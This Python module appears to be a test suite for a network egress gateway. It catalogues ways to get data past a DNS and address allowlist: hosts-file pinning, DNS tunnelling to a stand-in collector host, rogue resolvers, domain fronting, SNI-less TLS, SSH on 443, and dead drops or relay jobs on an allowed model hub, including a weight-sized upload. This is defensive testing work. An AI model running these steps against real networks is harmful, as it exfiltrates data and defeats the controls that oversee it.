"""Ways around a control of names: what to do if a name may not be asked for, or an address is not open.

Each step is a function without arguments that returns (outcome, why).
"""

import http.client
import json
import socket
import ssl
import struct
from contextlib import contextmanager

import dnswire
from clients import AUTHORITY
from pipeline import TIMEOUT

BLOCKED, USELESS, REACHED = "blocked", "useless", "REACHED"
# Bytes of a small model.
WEIGHTS = 4 << 20
METADATA = "169.254.169.254"
# As in outside/internet.zone. An attacker brings such a list along.
HUB, HUB_ADDRESS = "huggingface.co", "198.51.100.10"
EDGE, EDGE_ADDRESS = "us.aws.cdn.hf.co", "198.51.100.11"
OTHER_EDGE, OTHER_EDGE_ADDRESS = "eu-west-3.aws.cdn.hf.co", "198.51.100.12"
PROVIDER, PROVIDER_ADDRESS = "api.openai.com", "198.51.100.20"
COLLECTOR, COLLECTOR_ADDRESS = "collect.attacker.example", "203.0.113.66"
PAGES = "pages.attacker.example"
RESOLVER, RESOLVER_ADDRESS = "dns.resolver.example", "198.51.100.53"


def outcome(act):
    """What became of it: `act` returns (outcome, why), or fails. A refusal is an answer too: the packet arrived, and
    was turned away by who was asked."""
    try:
        return act()
    except ConnectionRefusedError:
        return REACHED, "nobody listens"
    except OSError as failure:
        return BLOCKED, str(failure) or type(failure).__name__


def https(host, method, path, body=None, at=None, claim=None, headers=None, verify=True):
    """A request to `host`, wherever its name leads, or to the address `at`. `claim`: the name in the handshake, if
    another; empty for none. Returns status, body, and why the gateway refused it, if it did."""
    context = ssl.create_default_context(cafile=AUTHORITY) if verify else ssl._create_unverified_context()
    with socket.create_connection((at or host, 443), timeout=TIMEOUT) as stream:
        # Longer, for what is open may be slow.
        stream.settimeout(5 * TIMEOUT)
        connection = http.client.HTTPConnection(host)
        connection.sock = context.wrap_socket(stream, server_hostname=(host if claim is None else claim) or None)
        connection.request(method, path, body=body, headers=headers or {})
        answer = connection.getresponse()
        return answer.status, answer.read(), answer.headers.get("X-Cofferdam-Reason")


def asks(host, method="GET", path="/", body=None, **more):
    def act():
        status, text, refused = https(host, method, path, body, **more)
        if refused:
            return BLOCKED, f"status {status}, {refused}"
        taken = status < 400 or status in (401, 404)
        return (REACHED if taken else USELESS), f"status {status}, {len(text)} bytes"

    return lambda: outcome(act)


@contextmanager
def changed(path, text, whole=False):
    """A file of the pod's own, for a while."""
    with open(path, encoding="utf-8") as file:
        before = file.read()
    with open(path, "w", encoding="utf-8") as file:
        file.write(text if whole else before + text)
    try:
        yield
    finally:
        with open(path, "w", encoding="utf-8") as file:
            file.write(before)


def pinned(name, address):
    """The hosts file says where the name is; nobody is asked. Certificates do not matter to whoever pins."""

    def step():
        with changed("/etc/hosts", f"{address} {name}\n"):
            return asks(name, "POST", "/", b"c2VjcmV0", verify=False)()

    return step


def answered(packet):
    code, addresses = dnswire.read(packet)
    if addresses:
        return REACHED, f"answers {addresses[0]}"
    words = {0: "no such record", 3: "no such name", 5: "refused"}
    return BLOCKED if code == 5 else USELESS, words.get(code, f"code {code}")


def datagram(address, port, name=COLLECTOR):
    def act():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(TIMEOUT)
            stream.connect((address, port))
            stream.send(dnswire.query(name))
            return answered(stream.recv(512))

    return lambda: outcome(act)


def over_tcp(address, port, tls=None):
    def act():
        with socket.create_connection((address, port), timeout=TIMEOUT) as plain:
            context = ssl.create_default_context(cafile=AUTHORITY)
            stream = context.wrap_socket(plain, server_hostname=tls) if tls else plain
            packet = dnswire.query(COLLECTOR)
            stream.sendall(struct.pack("!H", len(packet)) + packet)
            with stream.makefile("rb") as file:
                head = file.read(2)
                if len(head) < 2:
                    return BLOCKED, "closed without an answer"
                return answered(file.read(struct.unpack("!H", head)[0]))

    return lambda: outcome(act)


def over_https():
    def act():
        kind = {"Content-Type": "application/dns-message"}
        _, body, _ = https(RESOLVER, "POST", "/dns-query", dnswire.query(COLLECTOR), at=RESOLVER_ADDRESS, headers=kind)
        return answered(body)

    return outcome(act)


def resolved(name, then=None):
    """The machine's own way to resolve; then, if there is an address, what to do with it."""

    def act():
        try:
            address = socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0]
        except socket.gaierror as failure:
            return BLOCKED, failure.strerror
        return then(address) if then else (REACHED, f"leads to {address}")

    return lambda: outcome(act)


def swapped_resolver():
    with changed("/etc/resolv.conf", f"nameserver {RESOLVER_ADDRESS}\noptions timeout:1 attempts:1\n", whole=True):
        return resolved(COLLECTOR)()


def opens(port):
    def then(address):
        with socket.create_connection((address, port), timeout=TIMEOUT):
            return REACHED, f"leads to {address}, which is open"

    return then


def says(address, port, text):
    """Speaks something of its own to an open port."""

    def act():
        with socket.create_connection((address, port), timeout=TIMEOUT) as stream:
            stream.sendall(text)
            answer = stream.recv(64)
            return (REACHED, f"{len(answer)} bytes came back") if answer else (BLOCKED, "closed without an answer")

    return lambda: outcome(act)


nameless = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim="", verify=False)
fronted = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim=EDGE)


def commit(size):
    """A commit with a file in it, as the hub's own client makes it for small ones."""
    lines = [
        {"key": "header", "value": {"summary": "weights", "description": ""}},
        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": "c2VjcmV0" * (size // 8)}},
    ]
    return "\n".join(json.dumps(line) for line in lines)


def of_hub(step, method, path, body=None, kind="application/json", **headers):
    """A step: a request to the hub, which is allowed, with the attacker's own key."""
    about = {"Content-Type": kind, "Authorization": "Bearer hf_attackers", **headers}
    return step, f"{HUB} {method} {path}", asks(HUB, method, path, body, headers=about), ""


LINES = "application/x-ndjson"
LFS = json.dumps({"operation": "upload", "transfers": ["basic"], "objects": [{"oid": "0" * 64, "size": 1 << 30}]})
JOB = json.dumps({"dockerImage": "attacker/relay", "command": ["serve"], "flavor": "cpu-basic"})
SECRET = json.dumps({"key": "drop", "value": "c2VjcmV0"})
DROP = "/api/datasets/attacker/drop"
UPGRADE = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "c2VjcmV0"}

# Everything that stores, changes or runs something at the one host that is allowed, and reads what is not its own.
REQUESTS = [
    of_hub("dead-drop-commit", "POST", f"{DROP}/commit/main", commit(64), LINES),
    of_hub("dead-drop-in-somebody-elses-repository", "POST", "/api/models/acme/tiny-llm/commit/main?create_pr=1", commit(64), LINES),
    of_hub("upload-of-large-files", "POST", "/datasets/attacker/drop.git/info/lfs/objects/batch", LFS),
    of_hub("token-to-write", "GET", f"{DROP}/xet-write-token/main"),
    of_hub("upload-begins", "POST", f"{DROP}/preupload/main", json.dumps({"files": [{"path": "w", "sample": "c2Vj", "size": 9}]})),
    of_hub("push", "GET", "/datasets/attacker/drop.git/info/refs?service=git-receive-pack"),
    of_hub("repository-made", "POST", "/api/repos/create", json.dumps({"name": "attacker/drop", "type": "dataset"})),
    of_hub("job-as-relay", "POST", "/api/jobs/attacker", JOB),
    of_hub("secret-of-a-space", "POST", "/api/spaces/attacker/relay/secrets", SECRET),
    of_hub("orders-from-a-dead-drop", "GET", "/datasets/attacker/drop/resolve/main/orders.txt"),
    ("object-that-the-hub-did-not-lead-to", f"{EDGE} GET /orders.txt", asks(EDGE, path="/orders.txt"), ""),
    of_hub("tunnel-in-a-websocket", "GET", "/acme/tiny-llm/socket", **UPGRADE),
    of_hub("another-verb-in-a-header", "GET", f"{DROP}/commit/main", **{"X-HTTP-Method-Override": "POST"}),
]

# (step, target, what to do, the limit if it is not closed yet)
STEPS = [
    ("address-never-resolved", f"{PROVIDER_ADDRESS} 443/TCP", asks(PROVIDER, path="/v1/models", at=PROVIDER_ADDRESS), ""),
    ("address-that-another-pod-resolved", f"{OTHER_EDGE_ADDRESS} 443/TCP", asks(OTHER_EDGE, at=OTHER_EDGE_ADDRESS), ""),
    ("name-not-allowed", COLLECTOR, resolved(COLLECTOR), ""),
    ("secret-in-a-name", f"c2VjcmV0.{COLLECTOR}", resolved(f"c2VjcmV0.{COLLECTOR}"), ""),
    ("allowed-name-pinned-elsewhere", f"{HUB} at {COLLECTOR_ADDRESS} 443/TCP", pinned(HUB, COLLECTOR_ADDRESS), ""),
    ("denied-name-pinned-to-allowed", f"{COLLECTOR} at {HUB_ADDRESS} 443/TCP", pinned(COLLECTOR, HUB_ADDRESS), ""),
    ("resolver-swapped", f"{RESOLVER_ADDRESS} 53/UDP, in resolv.conf", swapped_resolver, ""),
    ("resolver-of-its-own", f"{RESOLVER_ADDRESS} 53/UDP", datagram(RESOLVER_ADDRESS, 53), ""),
    ("resolver-of-its-own", f"{RESOLVER_ADDRESS} 53/TCP", over_tcp(RESOLVER_ADDRESS, 53), ""),
    ("resolver-over-tls", f"{RESOLVER_ADDRESS} 853/TCP", over_tcp(RESOLVER_ADDRESS, 853, tls=RESOLVER), ""),
    ("resolver-over-https", f"{RESOLVER_ADDRESS} 443/TCP", over_https, ""),
    ("resolver-on-another-port", f"{RESOLVER_ADDRESS} 5353/UDP", datagram(RESOLVER_ADDRESS, 5353), ""),
    ("name-that-leads-to-metadata", "forgotten-1.us.aws.cdn.hf.co", resolved("forgotten-1.us.aws.cdn.hf.co", opens(80)), ""),
    ("name-that-leads-to-a-pod", "forgotten-2.us.aws.cdn.hf.co", resolved("forgotten-2.us.aws.cdn.hf.co", opens(6333)), ""),
    ("other-name-of-an-allowed-address", f"{PAGES} at {EDGE_ADDRESS} 443/TCP", pinned(PAGES, EDGE_ADDRESS), ""),
    ("no-name-in-the-handshake", f"{EDGE_ADDRESS} 443/TCP, without a name", nameless, ""),
    ("tunnel-to-an-allowed-address", f"{EDGE_ADDRESS} 443/TCP, SSH", says(EDGE_ADDRESS, 443, b"SSH-2.0-tunnel\r\n"), ""),
    ("quic-to-an-allowed-address", f"{EDGE_ADDRESS} 443/UDP", datagram(EDGE_ADDRESS, 443), ""),
    ("other-name-behind-an-allowed-one", f"{EDGE} POST /", fronted, ""),
    of_hub("upload-to-the-allowed-hub", "POST", f"{DROP}/commit/main", commit(WEIGHTS), LINES),
    *REQUESTS,
]
